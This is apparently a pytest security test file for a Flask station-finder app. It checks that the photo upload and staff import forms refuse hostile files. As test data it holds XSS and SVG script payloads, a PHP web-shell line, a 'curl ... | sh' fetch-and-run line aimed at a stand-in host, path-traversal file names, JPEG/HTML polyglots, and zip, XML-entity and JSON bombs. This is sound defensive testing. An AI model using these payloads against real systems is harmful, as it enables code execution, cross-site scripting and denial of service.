"""Hostile files through every form that takes one: a station's photo (staff), a courier's
report photo, a council issue's photo (/council/new), and the staff import (GeoJSON, CSV,
XLSX). Backups are restored by the command line only; no page takes one.

Each attack is tried once here, through the real form, with its CSRF token:

- path tricks in the upload's file name: nothing is written outside the app's storage
  (photos live in the database; the instance folder and the temporary directory are
  compared before and after), the stored photo is named by the app, and the answer is a
  form page or a 4xx, never a 500;
- scripts, HTML and SVG renamed `x.jpg` and sent as image/jpeg: refused with a message;
- a real JPEG carrying HTML (appended, or in a comment block): re-encoded, so what is
  served holds none of it, as image/jpeg with nosniff;
- decompression bombs (a PNG claiming 50,000 x 50,000 pixels, an XLSX zip expanding to
  gigabytes, an XML entity bomb, JSON nested 100,000 deep): refused quickly, with a message.
"""

from __future__ import annotations

import io
import re
import resource
import tempfile
import uuid
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from images import png_claiming
from PIL import Image
from sqlalchemy import func, select
from staff_login import csrf_from, staff_client
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import TestResponse, encode_multipart

from stationfinder.core.text import translations
from stationfinder.db import session_scope
from stationfinder.models import (
    CouncilIssue,
    Photo,
    ProblemReport,
    Station,
    StationRevision,
)
from stationfinder.registry.photos import MAX_PIXELS

# The pages answer in Chinese by default: the words a courier or staff member reads there.
ZH = translations("zh").gettext
OWN = "QT-BY-001"  # in 白杨街道, the street_staff member's own subdistrict
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"

# --- files ------------------------------------------------------------------------------


def jpeg(width: int = 320, height: int = 240, **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (40, 120, 200)).save(out, "JPEG", quality=85, **save)
    return out.getvalue()


def xlsx_zip_bomb() -> bytes:
    """A 100-kilobyte workbook whose sheet expands to 100 MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (100 * 1024 * 1024))
    return out.getvalue()


def xlsx_entity_bomb() -> bytes:
    """A workbook whose XML defines nested entities ("billion laughs")."""
    laughs = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    ]
    doctype = f"<!DOCTYPE workbook [{''.join(laughs)}]>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?>{doctype}<workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><x>&l9;</x></workbook>',
        )
    return out.getvalue()


SCRIPTS_AS_IMAGES = {
    "script": b"<script>alert(document.cookie)</script>",
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
    "html": b"<!DOCTYPE html>" + HTML,
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>",
    "executable": b"MZ\x90\x00\x03\x00\x00\x00 an executable",
}

MARK = "sf-escape-" + uuid.uuid4().hex[:8]  # a name that cannot already be on disk
HOSTILE_NAMES = {
    "dot-dot": f"../../{MARK}.png",
    "etc-passwd": "../../../../../../etc/passwd",
    "backslashes": f"..\\..\\{MARK}.png",
    "absolute": f"/tmp/{MARK}.png",
    "windows-absolute": f"C:\\Windows\\Temp\\{MARK}.png",
    "nul": f"{MARK}.png\x00.php",
    "nul-before-extension": f"../{MARK}\x00.csv",
    "long": "a" * 5000 + ".png",
    "fullwidth-dots": f"．．／．．／{MARK}.png",
    "one-dot-leader": f"\u2024\u2024/\u2024\u2024/{MARK}.png",
    "right-to-left": f"{MARK}\u202egnp.php",
}


# --- the app, its people and its forms ---------------------------------------------------


@pytest.fixture
def private_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The temporary directory the app spools uploads to, this test's alone (the shared
    one is written by other processes, so it could not be compared before and after)."""
    path = tmp_path / "tmp"
    path.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(path))
    return path


@pytest.fixture
def app(make_app: Callable[..., Flask], tmp_path: Path, private_tmp: Path) -> Flask:
    app = make_app(RATE_LIMITS=False)
    app.instance_path = str(tmp_path / "instance")
    Path(app.instance_path).mkdir()
    return app


def _post_file(
    client: FlaskClient, url: str, fields: dict[str, object], name: str, upload: FileStorage
) -> TestResponse:
    """A multipart post encoded here, in memory, with the file name exactly as given (the
    test client would spool a large body to a file it never closes)."""
    items: list[tuple[str, object]] = []
    for key, value in fields.items():
        items.extend((key, v) for v in (value if isinstance(value, list) else [value]))
    items.append((name, upload))
    boundary, body = encode_multipart(MultiDict(items))
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _upload(data: bytes, filename: str, mimetype: str) -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=filename, content_type=mimetype)


def _count(app: Flask, model: type) -> int:
    with session_scope(app) as session:
        return int(session.scalar(select(func.count()).select_from(model)) or 0)


def _written(app: Flask) -> tuple[int, ...]:
    return tuple(
        _count(app, model) for model in (Photo, StationRevision, ProblemReport, CouncilIssue)
    )


@dataclass
class Target:
    """One form that takes a file: how to send it one, and where a stored photo is served."""

    name: str
    send: Callable[[Flask, bytes, str, str], TestResponse]
    served: Callable[[Flask], TestResponse | None]  # the stored photo, as served
    # Where the page says "this photo cannot be used": the council's pages speak the
    # courier's language in their own words, so they are found by their marker.
    marker: str | None = None

    def says(self, page: str, words: str) -> bool:
        return (self.marker or words) in page


def _station_photo(app: Flask, data: bytes, filename: str, mimetype: str) -> TestResponse:
    client = app.extensions.setdefault("test.staff", {}).get("baiyang")
    if client is None:
        client = app.extensions["test.staff"]["baiyang"] = staff_client(
            app, "baiyang", "street_staff", "白杨街道"
        )
    page = client.get(f"/staff/stations/{OWN}/edit").get_data(as_text=True)
    with session_scope(app) as session:
        s = session.get_one(Station, OWN)
        fields: dict[str, object] = {
            "csrf_token": csrf_from(page),
            "version": str(s.version),
            "name": s.name,
            "kind": s.kind,
            "street": s.street or "",
            "address": s.address,
            "crs": "wgs84",
            "lon": str(s.lon),
            "lat": str(s.lat),
            "amenities": list(s.amenities or []),
            "opening_hours": s.opening_hours or "",
            "phone": s.phone or "",
            "action": "save",
        }
    return _post_file(
        client, f"/staff/stations/{OWN}/edit", fields, "photo", _upload(data, filename, mimetype)
    )


def _station_photo_served(app: Flask) -> TestResponse | None:
    with session_scope(app) as session:
        photo_id = session.get_one(Station, OWN).photo_id
    if photo_id is None:
        return None
    assert re.fullmatch(r"[0-9a-f]{32}", photo_id), "the stored photo is named by the app"
    return app.test_client().get(f"/photos/{photo_id}")


def _report_photo(app: Flask, data: bytes, filename: str, mimetype: str) -> TestResponse:
    client = app.test_client()
    page = client.get(f"/stations/{OWN}/report").get_data(as_text=True)
    fields: dict[str, object] = {
        "csrf_token": csrf_from(page),
        "category": "wrong_place",
        "message": "门头换了",
    }
    return _post_file(
        client, f"/stations/{OWN}/report", fields, "photo", _upload(data, filename, mimetype)
    )


def _report_photo_served(app: Flask) -> TestResponse | None:
    with session_scope(app) as session:
        report = session.scalars(select(ProblemReport)).first()
        report_id, photo_id = (report.id, report.photo_id) if report else (None, None)
    if photo_id is None:
        return None
    assert re.fullmatch(r"[0-9a-f]{32}", photo_id), "the stored photo is named by the app"
    admin = staff_client(app, "admin", "union_admin")
    return admin.get(f"/staff/reports/{report_id}/photo")


def _council_photo(app: Flask, data: bytes, filename: str, mimetype: str) -> TestResponse:
    client = app.test_client()
    page = client.get("/council/new").get_data(as_text=True)
    fields: dict[str, object] = {
        "csrf_token": csrf_from(page),
        "device_key": "a1" * 32,
        "title": "驿站门口没有充电桩",
        "category": "rest_facilities",
        "description": "白杨街道的驿站门口没有电动车充电桩，冬天电池掉电快。",
        "lon": "120.35",
        "lat": "30.31",
        "confirmed": "1",
    }
    return _post_file(client, "/council/new", fields, "photo", _upload(data, filename, mimetype))


def _council_photo_served(app: Flask) -> TestResponse | None:
    from stationfinder.council import issues as council

    with session_scope(app) as session:
        issue = session.scalars(select(CouncilIssue)).first()
        if issue is None or issue.photo_id is None:
            return None
        photo_id, number = issue.photo_id, council.work_order_number(issue)
    assert re.fullmatch(r"[0-9a-f]{32}", photo_id), "the stored photo is named by the app"
    return app.test_client().get(f"/council/issues/{number}/photo")


PHOTO_FORMS = [
    Target("station photo", _station_photo, _station_photo_served),
    Target("report photo", _report_photo, _report_photo_served),
    Target(
        "council photo",
        _council_photo,
        _council_photo_served,
        marker='data-testid="error-photo"',
    ),
]


def _import(app: Flask, data: bytes, filename: str, mimetype: str) -> TestResponse:
    client = app.extensions.setdefault("test.staff", {}).get("admin")
    if client is None:
        client = app.extensions["test.staff"]["admin"] = staff_client(app, "admin", "union_admin")
    page = client.get("/staff/import").get_data(as_text=True)
    return _post_file(
        client,
        "/staff/import",
        {"csrf_token": csrf_from(page), "reason": ""},
        "file",
        _upload(data, filename, mimetype),
    )


def _confirm_import(app: Flask, preview: TestResponse) -> TestResponse:
    client = app.extensions["test.staff"]["admin"]
    page = preview.get_data(as_text=True)
    token = re.search(r'name="token"[^>]*value="([^"]+)"', page)
    assert token, "the preview offers no confirmation"
    return client.post(
        "/staff/import/confirm", data={"csrf_token": csrf_from(page), "token": token.group(1)}
    )


CSV_ROW = (
    "编号,名称,类型,街道,地址,经度,纬度,设施\r\n"
    "QT-XS-900,金沙湖新驿站,工会驿站,下沙街道,金沙湖路1号,120.3181,30.3051,rest;toilet\r\n"
).encode()


# --- nothing lands on disk -----------------------------------------------------------------


def _files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")} if root.exists() else set()


@pytest.fixture
def disk(app: Flask, private_tmp: Path) -> Iterator[None]:
    """Fail the test if a file appears in the instance folder or the temporary directory,
    or a file named like the attack's anywhere its path could point to."""
    roots = [Path(app.instance_path), private_tmp]
    before = {root: _files_under(root) for root in roots}
    yield
    for root in roots:
        assert _files_under(root) == before[root], f"files written under {root}"
    near = {Path.cwd(), Path(app.instance_path), private_tmp, Path("/tmp"), Path("/")}
    for base in list(near):
        near.update(list(base.parents)[:3])
    escaped = [p for base in near for p in base.glob(f"*{MARK}*")]
    assert escaped == [], f"an upload escaped to {escaped}"


def _refused_or_form(response: TestResponse) -> None:
    """A page (the form again, or where it leads) or a 4xx; never a 500."""
    assert response.status_code in (200, 302, 303) or 400 <= response.status_code < 500, (
        response.status_code,
        response.get_data(as_text=True)[:2000],
    )


@pytest.mark.parametrize("target", PHOTO_FORMS, ids=lambda t: t.name)
@pytest.mark.parametrize("filename", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_a_photo_with_a_hostile_name_is_stored_under_the_apps_own_name(
    app: Flask, disk: None, target: Target, filename: str
) -> None:
    response = target.send(app, jpeg(), filename, "image/jpeg")
    _refused_or_form(response)
    if _count(app, Photo):
        served = target.served(app)
        assert served is not None and served.status_code == 200
        assert served.mimetype == "image/jpeg"
        assert MARK not in (served.headers.get("Content-Disposition") or "")
    else:
        assert 400 <= response.status_code < 500


@pytest.mark.parametrize("filename", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_an_import_with_a_hostile_name_writes_no_file_and_no_500(
    app: Flask, disk: None, filename: str
) -> None:
    stations, revisions = _count(app, Station), _count(app, StationRevision)
    response = _import(app, CSV_ROW, filename, "text/csv")
    _refused_or_form(response)
    page = response.get_data(as_text=True)
    if response.status_code == 200:
        # Only a name ending in .csv gets this far; confirming applies the rows.
        applied = _confirm_import(app, response)
        assert applied.status_code == 200, applied.get_data(as_text=True)
        assert _count(app, Station) == stations + 1
        with session_scope(app) as session:
            reason = session.scalars(
                select(StationRevision.reason).where(StationRevision.station_id == "QT-XS-900")
            ).one()
        # The history names the file by its last part, without control characters.
        assert reason == f"import {MARK}.csv", reason
    else:
        assert response.status_code == 400
        assert ZH("choose a .xlsx, .csv or .geojson file") in page
        assert (_count(app, Station), _count(app, StationRevision)) == (stations, revisions)


# --- scripts dressed as images ----------------------------------------------------------------


@pytest.mark.parametrize("target", PHOTO_FORMS, ids=lambda t: t.name)
@pytest.mark.parametrize("data", SCRIPTS_AS_IMAGES.values(), ids=SCRIPTS_AS_IMAGES.keys())
def test_a_script_renamed_as_a_jpeg_is_refused_with_a_message(
    app: Flask, target: Target, data: bytes
) -> None:
    before = _written(app)
    response = target.send(app, data, "x.jpg", "image/jpeg")
    assert response.status_code == 400
    not_a_photo = ZH("the file is not a JPEG, PNG or WebP image")
    assert target.says(response.get_data(as_text=True), not_a_photo)
    assert _written(app) == before  # no photo, and no edit, report or issue without it
    assert target.served(app) is None


@pytest.mark.parametrize(
    "filename", ["x.csv", "x.geojson", "x.xlsx"], ids=["csv", "geojson", "xlsx"]
)
@pytest.mark.parametrize("data", SCRIPTS_AS_IMAGES.values(), ids=SCRIPTS_AS_IMAGES.keys())
def test_a_script_renamed_as_a_station_list_is_refused_with_a_message(
    app: Flask, filename: str, data: bytes
) -> None:
    stations = _count(app, Station)
    response = _import(app, data, filename, "application/octet-stream")
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert 'data-testid="import-problem"' in page
    assert 'name="token"' not in page
    assert _count(app, Station) == stations


# --- polyglots ------------------------------------------------------------------------------

POLYGLOTS = {
    "html-appended": jpeg() + HTML,
    "html-in-comment": jpeg(comment=HTML),
}


@pytest.mark.parametrize("target", PHOTO_FORMS, ids=lambda t: t.name)
@pytest.mark.parametrize("data", POLYGLOTS.values(), ids=POLYGLOTS.keys())
def test_a_jpeg_carrying_html_is_served_re_encoded_as_a_jpeg(
    app: Flask, target: Target, data: bytes
) -> None:
    assert b"<script>" in data
    response = target.send(app, data, "x.jpg", "image/jpeg")
    assert response.status_code in (200, 302), response.get_data(as_text=True)[:2000]
    assert _count(app, Photo) == 1
    served = target.served(app)
    assert served is not None and served.status_code == 200
    assert served.headers["Content-Type"] == "image/jpeg"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert b"<script" not in served.data and b"<html" not in served.data
    assert served.data != data[: len(served.data)]  # encoded again, not trimmed
    assert served.data.endswith(b"\xff\xd9")  # nothing after the end-of-image marker


# --- bombs ------------------------------------------------------------------------------------

# A bomb refused in time leaves the process's peak memory where it was; one that went
# off would add gigabytes. Memory, unlike seconds, does not depend on how busy the
# machine is (the timed version of these tests failed on a loaded host).
PEAK_LIMIT = 256 * 1024 * 1024


@contextmanager
def peak_memory() -> Iterator[Callable[[], int]]:
    """How far the process's peak resident memory rose inside the block, in bytes (C
    allocations included: PIL's and zlib's are not Python objects)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result: list[int] = []
    try:
        yield lambda: result[0]
    finally:
        result.append((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024)


@pytest.mark.parametrize("target", PHOTO_FORMS, ids=lambda t: t.name)
def test_a_png_claiming_50000_by_50000_pixels_is_refused_quickly(
    app: Flask, target: Target
) -> None:
    with peak_memory() as peak:
        response = target.send(app, png_claiming(50_000, 50_000), "x.png", "image/png")
    assert peak() < PEAK_LIMIT  # refused from the header: 2.5e9 pixels were never decoded
    assert response.status_code == 400
    too_many = ZH("the image has more than %(pixels)s pixels") % {"pixels": f"{MAX_PIXELS:,}"}
    assert target.says(response.get_data(as_text=True), too_many)
    assert _count(app, Photo) == 0


NESTED_JSON = b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
STATION_LIST_BOMBS = {
    "xlsx-zip-bomb": (
        xlsx_zip_bomb(),
        "x.xlsx",
        "the workbook is far larger than a station list; nothing was read",
    ),
    "xlsx-entity-bomb": (
        xlsx_entity_bomb(),
        "x.xlsx",
        "not an Excel workbook (.xlsx); save the file as .xlsx",
    ),
    "geojson-nested": (NESTED_JSON, "x.geojson", "not a GeoJSON file: it is nested too deeply"),
}


@pytest.mark.parametrize(
    ("data", "filename", "words"), STATION_LIST_BOMBS.values(), ids=STATION_LIST_BOMBS.keys()
)
def test_a_station_list_bomb_is_refused_quickly_with_a_message(
    app: Flask, data: bytes, filename: str, words: str
) -> None:
    stations = _count(app, Station)
    with peak_memory() as peak:
        response = _import(app, data, filename, "application/octet-stream")
    assert peak() < PEAK_LIMIT  # refused before the bomb went off
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert 'data-testid="import-problem"' in page and ZH(words) in page
    assert _count(app, Station) == stations
